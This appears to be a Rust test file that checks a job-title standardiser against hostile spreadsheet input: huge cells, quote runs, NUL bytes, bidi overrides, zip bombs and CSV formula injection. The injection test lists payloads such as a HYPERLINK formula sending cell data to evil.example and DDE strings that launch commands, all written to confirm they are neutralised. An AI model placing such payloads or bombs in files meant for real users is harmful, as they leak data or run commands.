//! Hostile input, generated here (nothing big is committed): huge cells and titles, runs of
//! quotes, NUL bytes, right-to-left text and combining marks, emoji, 100,000 columns, formula
//! injection, sparse and compressed workbooks that would exhaust memory, and the command line on
//! some of them. Each has one clear outcome: a specific error, or every row out with its values.
#![cfg(feature = "xlsx")]

mod common;

use calamine::{Data, Reader as _, Xlsx};
use common::checks::matcher;
use common::zip::{deflate_bomb, workbook, xlsx_with_sheet, xlsx_with_sheet_part, Part};
use role_standardiser::{Bulk, MatchResult, Options, Status};
use std::process::Output;
use std::time::{Duration, Instant};

/// Work that must finish well inside this on a busy 2-core machine (10 MB take about a second in
/// a release build, 12 in a debug one; the quadratic reading this guards against took hours).
const QUICK: Duration = Duration::from_secs(if cfg!(debug_assertions) { 60 } else { 10 });

fn open(bytes: &[u8]) -> Result<Bulk, String> {
    Bulk::open(bytes, "in.csv", &Options::default(), matcher().clone()).map_err(|e| e.to_string())
}

/// Opens, matches and writes CSV, within [`QUICK`].
fn clean(bytes: &[u8]) -> (Bulk, String) {
    let start = Instant::now();
    let mut bulk = open(bytes).expect("opens");
    bulk.match_next(usize::MAX);
    // The output is in the input's encoding: decoded as the input was.
    let out = role_standardiser::decode(&bulk.to_csv().expect("csv")).into_owned();
    assert!(start.elapsed() < QUICK, "took {:?}", start.elapsed());
    (bulk, out)
}

fn records(csv: &str, delimiter: u8) -> Vec<Vec<String>> {
    common::checks::csv_records(csv, delimiter).expect("the output reads back")
}

/// The first sheet of an XLSX as calamine reads it, and its formulas.
fn read_xlsx(bytes: Vec<u8>) -> (Vec<Vec<Data>>, Vec<String>) {
    let mut book: Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("valid xlsx");
    let name = book.sheet_names()[0].clone();
    let cells = book.worksheet_range(&name).expect("sheet");
    let formulas = book.worksheet_formula(&name).expect("formulas");
    (
        cells.rows().map(|r| r.to_vec()).collect(),
        formulas.used_cells().map(|(_, _, f)| f.clone()).collect(),
    )
}

/// An XLSX read back by the bulk clean and written as CSV: the cells as the engine reads them.
fn xlsx_as_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut bulk =
        Bulk::open(bytes, "out.xlsx", &Options::default(), matcher().clone()).expect("opens");
    bulk.match_next(usize::MAX);
    records(
        &String::from_utf8(bulk.to_csv().expect("csv")).expect("utf-8"),
        b',',
    )
}

fn verdict(mut r: MatchResult) -> MatchResult {
    r.input.clear();
    r
}

fn timed<T>(f: impl FnOnce() -> T) -> T {
    let start = Instant::now();
    let out = f();
    assert!(start.elapsed() < QUICK, "took {:?}", start.elapsed());
    out
}

#[test]
fn a_ten_megabyte_cell_is_kept_whole_in_csv_and_refused_clearly_for_xlsx() {
    let big = "x".repeat(10 << 20);
    let input = format!("Job Title,Notes\nOTA,{big}\nHCA,short\n");
    let (bulk, out) = clean(input.as_bytes());
    assert_eq!(bulk.rows(), 2);
    let rows = records(&out, b',');
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[1][1].len(), big.len());
    assert!(rows[1][1] == big);
    assert_eq!(rows[2][..2], ["HCA", "short"]);
    let e = bulk.to_xlsx().expect_err("over Excel's cell limit");
    assert!(
        e.to_string()
            .contains("String exceeds Excel's limit of 32,767 characters"),
        "{e}"
    );
}

#[test]
fn ten_megabyte_titles_are_read_in_linear_time() {
    let m = matcher();
    // One 10 MB word: no run-together split is tried on a word longer than any two known words.
    let word = "a".repeat(10 << 20);
    let _ = timed(|| m.normalised(&word));
    // Matching gives up on a title over a sane length without reading it.
    let r = timed(|| m.match_title(&word));
    assert_eq!(r.status, Status::NoMatch);
    assert_eq!(
        r.explanation.reason,
        "over 1000 bytes (10485760 in all): not a job title"
    );
    assert_eq!(r.input.len(), 1000);
    // Ten megabytes of one real title, repeated: read in linear time, and not a job title.
    let many = "Physio Asst ".repeat((10 << 20) / 12);
    assert!(timed(|| m.normalised(&many)).starts_with("physiotherapy assistant physiotherapy"));
    assert_eq!(timed(|| m.match_title(&many)).status, Status::NoMatch);
    // And as a cell of the title column.
    let input = format!("Job Title\n{word}\nOTA\n");
    let (bulk, out) = clean(input.as_bytes());
    assert_eq!(bulk.rows(), 2);
    assert!(records(&out, b',')[1][0] == word);
    let _ = timed(|| m.suggest(&many[..1 << 20], 5));
}

#[test]
fn runs_of_quotes_read_exactly_or_fail_on_the_line() {
    // An opening quote, 49,999 doubled quotes and a closing one: a cell of 49,999 quotes.
    let cell = "\"".repeat(100_000);
    let input = format!("Job Title,Notes\nOTA,{cell}\nHCA,x\n");
    let (bulk, out) = clean(input.as_bytes());
    assert_eq!(bulk.rows(), 2);
    let rows = records(&out, b',');
    assert_eq!(rows[1][1], "\"".repeat(49_999));
    assert_eq!(rows[2][..2], ["HCA", "x"]);
    // One more quote leaves the field open to the end of the file.
    let input = format!("Job Title,Notes\nOTA,{cell}\"\nHCA,x\n");
    assert_eq!(
        open(input.as_bytes()).map(|_| ()),
        Err("in.csv line 2: a quoted field is never closed".to_string())
    );
    // A quote opened on the last line and never closed.
    assert_eq!(
        open(b"Job Title\nOTA\n\"").map(|_| ()),
        Err("in.csv line 3: a quoted field is never closed".to_string())
    );
    // A title of doubled quotes only: a cell of quotes, which names no role.
    let input = format!("Job Title\n\"{}\"\n", "\"\"".repeat(50_000));
    let (bulk, _) = clean(input.as_bytes());
    assert_eq!(bulk.titles()[0].title, "\"".repeat(50_000));
    assert_eq!(
        bulk.results()[0].explanation.reason,
        "over 1000 bytes (50000 in all): not a job title"
    );
    // Quotes inside an unquoted cell are kept as they are.
    let (_, out) = clean(b"Job Title,Notes\nOTA,ab\"cd\"\"\n");
    assert_eq!(records(&out, b',')[1][1], "ab\"cd\"\"");
}

#[test]
fn nul_bytes_separate_words_in_titles_and_refuse_a_utf8_file_as_binary() {
    let m = matcher();
    assert_eq!(
        verdict(m.match_title("Physio\0Asst\0B3")),
        verdict(m.match_title("Physio Asst B3"))
    );
    assert_eq!(
        open(b"Job Title,Notes\nOTA,a\0b\n").map(|_| ()),
        Err(
            "in.csv: this is not a spreadsheet: neither CSV text nor an Excel (.xlsx, .xlsm, .xls, .xlsb) or OpenDocument (.ods) workbook"
                .to_string()
        )
    );
    // UTF-16 text is full of zero bytes; a NUL character in its cells is kept.
    let text = "Job Title,Notes\nOTA,a\0b\nPhysio\0Asst,c\n";
    let mut utf16 = b"\xff\xfe".to_vec();
    utf16.extend(text.encode_utf16().flat_map(|u| u.to_le_bytes()));
    let (bulk, out) = clean(&utf16);
    assert_eq!(bulk.rows(), 2);
    let rows = records(&out, b',');
    assert_eq!(rows[1][..2], ["OTA", "a\0b"]);
    assert_eq!(rows[2][0], "Physio\0Asst");
    assert_eq!(rows[2][4], "physiotherapy");
    // An XLSX stores NUL as the escape _x0000_ (in shared strings, as Excel writes it): read and
    // written back as NUL.
    let book = workbook(&[&["Job Title", "Notes"], &["OTA", "a_x0000_b"]]);
    let mut bulk = open(&book).expect("opens");
    bulk.match_next(usize::MAX);
    assert_eq!(bulk.titles()[0].title, "OTA");
    let out = bulk.to_xlsx().expect("xlsx");
    assert_eq!(xlsx_as_csv(&out)[1][1], "a\0b");
    let (rows, _) = read_xlsx(out);
    assert_eq!(rows[1][1], Data::String("a\0b".into()));
}

#[test]
fn right_to_left_text_combining_marks_and_emoji_are_read_and_kept() {
    let m = matcher();
    let plain = verdict(m.match_title("Physio Asst B3"));
    // Marks and emoji are not letters: they separate words, and the words are read.
    for title in [
        "Physio\u{301} Asst\u{308}\u{308}\u{308} B3",
        "Physio Asst 💪 B3",
        "👩\u{200D}⚕\u{FE0F} Physio Asst B3 🇬🇧",
        "\u{200F}Physio Asst B3\u{200F}",
    ] {
        assert_eq!(verdict(m.match_title(title)), plain, "{title:?}");
    }
    // A letter with a precomposed accent is read as a misspelling of the word.
    let r = m.match_title("Physió Asst B3");
    assert_eq!((r.status, r.role), (plain.status, plain.role.clone()));
    // Arabic and Hebrew titles name no role the engine knows; a right-to-left override that
    // shows "Physio Asst Band 3" spells it backwards for the engine.
    for title in [
        "مساعد علاج طبيعي",
        "עוזר פיזיותרפיה",
        "\u{202E}3 dnaB tssA oisyhP",
    ] {
        let r = m.match_title(title);
        assert_eq!(r.status, Status::NoMatch, "{title}");
        assert_eq!(r.input, title);
    }
    let cells = [
        "مساعد علاج طبيعي",
        "\u{202E}3 dnaB tssA oisyhP",
        "Z\u{335}\u{321}a\u{334}\u{327}l\u{336}g\u{337}o",
        "👩\u{200D}⚕\u{FE0F}",
    ];
    let mut input = String::from("Job Title,Notes\n");
    for c in cells {
        input.push_str(&format!("Physio Asst,{c}\n{c},x\n"));
    }
    let (bulk, out) = clean(input.as_bytes());
    assert_eq!(bulk.rows(), 8);
    let rows = records(&out, b',');
    for (i, c) in cells.iter().enumerate() {
        assert_eq!(rows[1 + 2 * i][1], *c);
        assert_eq!(rows[2 + 2 * i][0], *c);
    }
    let (xlsx, _) = read_xlsx(bulk.to_xlsx().expect("xlsx"));
    for (i, c) in cells.iter().enumerate() {
        assert_eq!(xlsx[1 + 2 * i][1], Data::String(c.to_string()));
        assert_eq!(xlsx[2 + 2 * i][0], Data::String(c.to_string()));
    }
}

#[test]
fn a_hundred_thousand_columns_are_kept_in_csv_and_refused_clearly_for_xlsx() {
    let wide: Vec<String> = (0..100_000).map(|i| format!("c{i}")).collect();
    let input = format!("Job Title,Site\nOTA,{}\nHCA,South\n", wide.join(","));
    let (bulk, out) = clean(input.as_bytes());
    assert_eq!(bulk.rows(), 2);
    assert_eq!(bulk.ragged(), [2]);
    let rows = records(&out, b',');
    assert_eq!(rows.len(), 3);
    assert!(rows.iter().all(|r| r.len() == 100_001 + 11));
    assert_eq!(rows[1][1..100_001], wide[..]);
    assert_eq!(rows[2][..3], ["HCA", "South", ""]);
    assert_eq!(rows[0][100_001], "standard_role_id");
    let e = bulk.to_xlsx().expect_err("too wide for XLSX").to_string();
    assert_eq!(
        e,
        "in.csv: 100012 columns do not fit in an XLSX sheet (at most 16384, with the 11 appended); write CSV instead"
    );
    // A row whose one far cell is past column 65,536 was written onto column A (column numbers
    // wrapped round), over the title: now refused like any row too wide for XLSX.
    let mut row = vec![String::new(); 65_537];
    row[0] = "OTA".into();
    row[65_536] = "far".into();
    let input = format!("Job Title\n{}\n", row.join(","));
    let (bulk, _) = clean(input.as_bytes());
    let e = bulk.to_xlsx().expect_err("too wide for XLSX").to_string();
    assert!(e.starts_with("in.csv: 65548 columns do not fit"), "{e}");
}

#[test]
fn formula_injection_is_neutralised_in_csv_and_stays_text_in_xlsx() {
    let attacks = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+2",
        "\r=1+2",
        "=1+2\n",
    ];
    let mut input = String::from("Job Title,Notes,Number\n");
    for a in attacks {
        let q = format!("\"{}\"", a.replace('"', "\"\""));
        input.push_str(&format!("{q},{q},-3.5\nOTA,{q},+44\n"));
    }
    let (bulk, out) = clean(input.as_bytes());
    assert_eq!(bulk.rows(), 2 * attacks.len());
    let rows = records(&out, b',');
    for (i, a) in attacks.iter().enumerate() {
        let neutral = format!("'{a}");
        assert_eq!(rows[1 + 2 * i][..3], [&neutral, &neutral, "-3.5"], "{a:?}");
        assert_eq!(rows[2 + 2 * i][..3], ["OTA", &neutral, "+44"], "{a:?}");
        // The title is matched as written: none of these names a role.
        assert_eq!(rows[1 + 2 * i][9], "no-match", "{a:?}");
    }
    let out = bulk.to_xlsx().expect("xlsx");
    let again = xlsx_as_csv(&out);
    let (xlsx, formulas) = read_xlsx(out);
    assert!(formulas.is_empty(), "{formulas:?}");
    for (i, a) in attacks.iter().enumerate() {
        assert_eq!(xlsx[1 + 2 * i][1], Data::String(a.to_string()), "{a:?}");
        assert_eq!(again[1 + 2 * i][1], format!("'{a}"), "{a:?}");
    }
    // An XLSX cell of text that looks like a formula is neutralised in CSV output.
    let book = workbook(&[&["Job Title", "Notes"], &["OTA", "=cmd|' /C calc'!A0"]]);
    let mut bulk = open(&book).expect("opens");
    bulk.match_next(usize::MAX);
    let out = String::from_utf8(bulk.to_csv().expect("csv")).expect("utf-8");
    assert_eq!(records(&out, b',')[1][1], "'=cmd|' /C calc'!A0");
}

#[test]
fn a_deflate_bomb_is_refused_from_its_directory_before_anything_is_inflated() {
    // 160 KB of deflate data that inflates to 25.8 MB (158:1), its sizes declared honestly.
    let bomb = deflate_bomb(100_000);
    let size = 1 + 258 * 100_000;
    let sheet = Part {
        name: "xl/worksheets/sheet1.xml",
        data: &bomb,
        deflated: true,
        crc: 0,
        size,
    };
    let book = xlsx_with_sheet_part(sheet, None);
    let start = Instant::now();
    let e = open(&book).map(|_| ()).expect_err("a zip bomb");
    assert!(
        start.elapsed() < Duration::from_millis(500),
        "refused unread"
    );
    assert_eq!(
        e,
        "in.csv: this workbook looks like a zip bomb: a part would inflate 158:1 (the limit is 100:1)"
    );
}

/// A small workbook with `images` parts beside its sheet, each declared to inflate to 1 MB (the
/// size at which a part's ratio is checked): what the guard adds up, none of it read.
fn with_images(images: usize) -> Vec<u8> {
    let names: Vec<String> = (0..images)
        .map(|i| format!("xl/media/image{i}.png"))
        .collect();
    let images = names.iter().map(|name| Part {
        name,
        data: &[0x03, 0x00],
        deflated: true,
        crc: 0,
        size: 1_000_000,
    });
    let sheet = r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Job Title</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>OTA</t></is></c></row></sheetData></worksheet>"#;
    let sheet = Part::stored("xl/worksheets/sheet1.xml", sheet.as_bytes());
    common::zip::xlsx_with_parts(sheet, None, images.collect())
}

#[test]
fn a_workbook_inflating_past_the_limit_is_refused_and_excels_largest_sheet_is_not() {
    // 1,100 MB in all: the sheet XML of Excel's 1,048,576 rows at an ESR extract's 30 columns.
    let mut bulk = timed(|| open(&with_images(1_100))).expect("under the limit natively");
    bulk.match_next(usize::MAX);
    assert_eq!(bulk.summary().matched, 1);
    let e = timed(|| open(&with_images(4_001)).map(|_| ())).expect_err("over it");
    assert_eq!(
        e,
        "in.csv: this workbook would inflate to more than 4000 MB, over the limit; save it as CSV or split it"
    );
}

#[test]
fn a_workbook_that_lies_about_its_sizes_is_refused_by_the_reader() {
    // The same data declared to inflate 99:1, under the guard's limit: the reader inflates all
    // 25.8 MB of it (text, no worksheet), then refuses it on its checksum.
    let bomb = deflate_bomb(100_000);
    let sheet = Part {
        name: "xl/worksheets/sheet1.xml",
        data: &bomb,
        deflated: true,
        crc: 0,
        size: bomb.len() as u32 * 99,
    };
    let book = xlsx_with_sheet_part(sheet, None);
    let e = timed(|| open(&book).map(|_| ()).expect_err("refused"));
    assert_eq!(
        e,
        "in.csv: cannot read sheet `Staff`: Xml error: I/O error: Invalid checksum"
    );
}

#[test]
fn a_sparse_sheet_spanning_the_whole_grid_is_refused_before_it_is_laid_out() {
    // Two cells, A1 and XFD1048576: laid out as a grid that is 17 billion cells.
    let xml = r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Job Title</t></is></c></row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>OTA</t></is></c></row></sheetData></worksheet>"#;
    let e = timed(|| open(&xlsx_with_sheet(xml.as_bytes(), None)).map(|_| ()));
    assert_eq!(
        e,
        Err("in.csv: sheet `Staff` spans 1048576 rows by 16384 columns, 17179869184 cells, for 2 values; delete the cells far from the data or save the sheet as CSV".to_string())
    );
}

#[test]
fn a_csv_with_several_byte_order_marks_reads_from_its_text() {
    let input = "\u{feff}\u{feff}\u{feff}Job Title,Site\nPhysio Asst B3,Café\n";
    let (bulk, out) = clean(input.as_bytes());
    assert_eq!(bulk.header(), ["Job Title", "Site"]);
    assert_eq!(bulk.titles()[0].title, "Physio Asst B3");
    // Written back with its three marks, as it came.
    let bytes = bulk.to_csv().expect("csv");
    assert!(bytes.starts_with("\u{feff}\u{feff}\u{feff}Job Title".as_bytes()));
    let rows = records(&out, b',');
    assert_eq!(rows[0][..3], ["Job Title", "Site", "standard_role_id"]);
    assert_eq!(
        rows[1][..3],
        [
            "Physio Asst B3",
            "Café",
            "physiotherapy.senior-support-worker"
        ]
    );
}

fn run(args: &[&str], stdin: &[u8]) -> Output {
    common::cli::run(env!("CARGO_BIN_EXE_role-standardiser"), args, stdin)
}

fn temp(name: &str, contents: &[u8]) -> String {
    common::cli::temp("hostile", name, contents)
        .to_string_lossy()
        .into_owned()
}

/// The command line fails with status 1 and one line naming the problem.
fn fails_with(o: &Output, message: &str) {
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.contains(message), "{stderr}");
    assert!(o.stdout.is_empty());
}

#[test]
fn the_command_line_on_hostile_input() {
    // A 10 MB line, NUL bytes and a right-to-left override: one JSON result per line.
    let mut lines = "a".repeat(10 << 20).into_bytes();
    lines.extend_from_slice(b"\nPhysio\0Asst\0B3\n\xe2\x80\xae3 dnaB tssA oisyhP\n");
    let o = timed(|| run(&["match"], &lines));
    assert!(o.status.success());
    let results = common::cli::json_lines(&o);
    assert_eq!(results.len(), 3);
    assert_eq!(results[0]["status"], "no-match");
    assert_eq!(results[1]["input"], "Physio\0Asst\0B3");
    assert_eq!(
        results[1]["role"]["id"],
        "physiotherapy.senior-support-worker"
    );
    assert_eq!(results[2]["status"], "no-match");

    let quotes = temp(
        "quotes.csv",
        format!("Job Title\n{}\n", "\"".repeat(100_001)).as_bytes(),
    );
    fails_with(
        &run(&["clean", &quotes], b""),
        "line 2: a quoted field is never closed",
    );

    let bomb = deflate_bomb(100_000);
    let sheet = Part {
        name: "xl/worksheets/sheet1.xml",
        data: &bomb,
        deflated: true,
        crc: 0,
        size: 1 + 258 * 100_000,
    };
    let book = temp("bomb.xlsx", &xlsx_with_sheet_part(sheet, None));
    fails_with(&run(&["clean", &book], b""), "looks like a zip bomb");

    let wide = temp(
        "wide.csv",
        format!("Job Title\nOTA,{}\n", ",".repeat(20_000)).as_bytes(),
    );
    let out = temp("wide-out.xlsx", b"untouched");
    fails_with(
        &run(&["clean", &wide, "--output", &out], b""),
        "columns do not fit in an XLSX sheet",
    );
    assert_eq!(std::fs::read(&out).expect("kept"), b"untouched");

    let formulas = temp(
        "formulas.csv",
        b"Job Title,Notes\nOTA,=1+2\n\"@SUM(A1)\",-2+3\n",
    );
    let o = run(&["clean", &formulas], b"");
    assert!(o.status.success());
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let rows = records(&out, b',');
    assert_eq!(rows[1][..2], ["OTA", "'=1+2"]);
    assert_eq!(rows[2][..2], ["'@SUM(A1)", "'-2+3"]);
}
